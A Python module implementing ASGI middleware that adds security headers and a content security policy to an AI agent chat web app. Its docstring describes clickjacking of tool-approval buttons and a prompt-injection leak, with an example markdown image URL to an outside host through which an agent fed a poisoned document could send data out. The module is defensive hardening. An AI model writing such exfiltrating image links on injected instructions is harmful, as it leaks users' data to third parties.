"""The headers that tell a browser what a response may do: no framing, no type sniffing, and a content
security policy that lets a page run only its own scripts and reach only this server.

Why each one:

- ``frame-ancestors 'none'`` / ``X-Frame-Options: DENY``: another site must not frame the chat page.
  Framed under a decoy, a user's click lands on "Approve" for a tool call, or on "Delete".
- ``script-src 'self'``: the pages run only the scripts they load from ``/static``. Message text and
  documents are sanitised on the server (``web.markdown``); this is the second wall, should a bug ever
  let markup through.
- ``img-src 'self' data: blob:`` (unless ``allow_remote_images``): a reply or a document that shows
  ``![x](https://elsewhere/?q=...)`` would make the reader's browser send whatever the agent put in
  that address to any server, the moment the message is shown. An agent that read a poisoned web page
  or document can be talked into writing such an image; blocking remote images closes that channel
  (tool images come as ``data:`` addresses and still show).
- ``connect-src 'self'``: the pages' scripts talk only to this server.
- ``style-src 'self'`` with ``style-src-attr 'unsafe-inline'``: stylesheets only from ``/static``, but
  the ``style`` attribute that markdown tables use for column alignment stays allowed.
- ``X-Content-Type-Options: nosniff``: a file served as text is never run as a script or a page.
- ``Referrer-Policy: same-origin``: a link in a chat does not tell the site it leads to which session
  it was in.

The API documentation (``/docs``, ``/redoc``) loads its viewer from a CDN, so it gets every header but
the content security policy. ``Strict-Transport-Security`` is left to the TLS-terminating proxy, which
knows whether the site is served over HTTPS only.
"""

from __future__ import annotations

from starlette.types import ASGIApp, Message, Receive, Scope, Send

NO_POLICY_PREFIXES = ("/docs", "/redoc")


def content_security_policy(*, allow_remote_images: bool) -> str:
    images = "'self' data: blob:" + (" https: http:" if allow_remote_images else "")
    return "; ".join((
        "default-src 'self'",
        "script-src 'self'",
        "style-src 'self'",
        "style-src-attr 'unsafe-inline'",
        f"img-src {images}",
        "font-src 'self'",
        "connect-src 'self'",
        "media-src 'self' data: blob:",
        "object-src 'none'",
        "frame-src 'none'",
        "frame-ancestors 'none'",
        "base-uri 'none'",
        "form-action 'self'",
    ))


class SecurityHeaders:
    """Adds the headers above to every HTTP response that does not set them itself."""

    def __init__(self, app: ASGIApp, *, allow_remote_images: bool = False) -> None:
        self.app = app
        common = [(b"x-content-type-options", b"nosniff"), (b"x-frame-options", b"DENY"),
                  (b"referrer-policy", b"same-origin")]
        policy = (b"content-security-policy", content_security_policy(allow_remote_images=allow_remote_images).encode())
        self._with_policy = [*common, policy]
        self._without_policy = common

    async def __call__(self, scope: Scope, receive: Receive, send: Send) -> None:
        if scope["type"] != "http":
            await self.app(scope, receive, send)
            return
        extra = self._without_policy if scope["path"].startswith(NO_POLICY_PREFIXES) else self._with_policy

        async def send_with_headers(message: Message) -> None:
            if message["type"] == "http.response.start":
                headers = list(message.get("headers", ()))
                present = {name.lower() for name, _ in headers}
                headers += [(name, value) for name, value in extra if name not in present]
                message = {**message, "headers": headers}
            await send(message)

        await self.app(scope, receive, send_with_headers)
